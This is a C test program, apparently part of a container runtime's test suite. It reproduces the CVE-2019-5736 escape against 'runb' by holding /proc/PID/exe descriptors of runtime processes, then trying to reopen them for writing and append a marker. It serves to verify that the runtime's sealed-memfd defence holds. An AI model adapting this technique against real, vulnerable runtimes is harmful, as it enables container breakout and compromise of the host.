/* holdexe: runc's CVE-2019-5736, tried from inside a container against runb.
 *
 * The attack: a process of the container opens /proc/PID/exe of a runb process that
 * runs in the container's PID namespace (runb exec's, before its execve), keeps the
 * descriptor, and once that binary no longer runs (no ETXTBSY), reopens it for writing
 * through /proc/self/fd/N. If that works, the next runb on the host runs what the
 * container wrote. runb runs from a sealed memfd copy of itself and is not dumpable,
 * so here the open fails, or what it opens is the sealed copy, which refuses writes.
 *
 * usage: holdexe SECONDS MARK
 *   For up to SECONDS, open /proc/P/exe of every process whose comm begins with
 *   "runb", and keep what is not the container's own file (a process that has
 *   exec'd its command since). For each descriptor kept, keep trying to reopen it for writing
 *   until SECONDS have passed, and write MARK at its end if that succeeds. The
 *   tests point this only at a copy of runb they made: even where the hole is
 *   open, nothing of the machine's is written.
 * Prints "opened N" (exe descriptors obtained), "sealed N" (of them, sealed
 * memfds), and "wrote PATH" for each write that succeeded. Exit status: 1 if
 * anything was written, else 0.
 *
 * Build: gcc -static -O2 -Wall -Wextra -Werror -std=gnu11 -o test/holdexe test/holdexe.c
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static bool comm_is_runb(pid_t pid)
{
	char path[64], comm[32] = "";
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/comm", (int)pid);
	f = fopen(path, "re");
	if (!f)
		return false;
	if (!fgets(comm, sizeof(comm), f))
		comm[0] = '\0';
	fclose(f);
	return strncmp(comm, "runb", 4) == 0;
}

/* Is FD a file of the container's own: the one its link's path names here? */
static bool own_file(int fd)
{
	char path[64], target[4096];
	struct stat a, b;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, target, sizeof(target) - 1);
	if (n < 0)
		return false;
	target[n] = '\0';
	return fstat(fd, &a) == 0 && stat(target, &b) == 0 && a.st_dev == b.st_dev &&
	       a.st_ino == b.st_ino;
}

/* One round over /proc: the exe of each runb process not yet held. */
static void grab(int held[], pid_t pids[], int *n)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	char path[64];

	if (!d)
		return;
	while ((e = readdir(d)) && *n < MAX_HELD) {
		pid_t p = atoi(e->d_name);
		bool seen = false;

		if (p <= 0 || p == getpid() || !comm_is_runb(p))
			continue;
		for (int i = 0; i < *n; i++)
			seen |= pids[i] == p;
		if (seen)
			continue;
		snprintf(path, sizeof(path), "/proc/%d/exe", p);
		held[*n] = open(path, O_RDONLY);
		if (held[*n] < 0)
			continue;
		if (own_file(held[*n])) {  /* it has exec'd the container's command meanwhile */
			close(held[*n]);
			held[*n] = -1;
		}
		pids[(*n)++] = p;
	}
	closedir(d);
}

int main(int argc, char **argv)
{
	int held[MAX_HELD], n = 0, opened = 0, sealed = 0, wrote = 0;
	pid_t pids[MAX_HELD];
	bool done[MAX_HELD] = { false };
	double end;

	if (argc != 3) {
		fprintf(stderr, "usage: holdexe SECONDS MARK\n");
		return 2;
	}
	end = now() + atof(argv[1]);
	while (now() < end) {
		grab(held, pids, &n);
		for (int i = 0; i < n; i++) {
			char path[64];
			int w;

			if (done[i] || held[i] < 0)
				continue;
			snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
			w = open(path, O_WRONLY | O_APPEND);
			if (w < 0)
				continue;  /* ETXTBSY while it runs; EACCES, EPERM for good */
			if (write(w, argv[2], strlen(argv[2])) > 0) {
				char target[256] = "";

				if (readlink(path, target, sizeof(target) - 1) < 0)
					strcpy(target, "?");
				printf("wrote %s\n", target);
				wrote++;
			}
			close(w);
			done[i] = true;
		}
	}
	for (int i = 0; i < n; i++) {
		opened += held[i] >= 0;
		sealed += held[i] >= 0 && fcntl(held[i], F_GET_SEALS) > 0;
	}
	printf("opened %d\nsealed %d\n", opened, sealed);
	return wrote > 0;
}
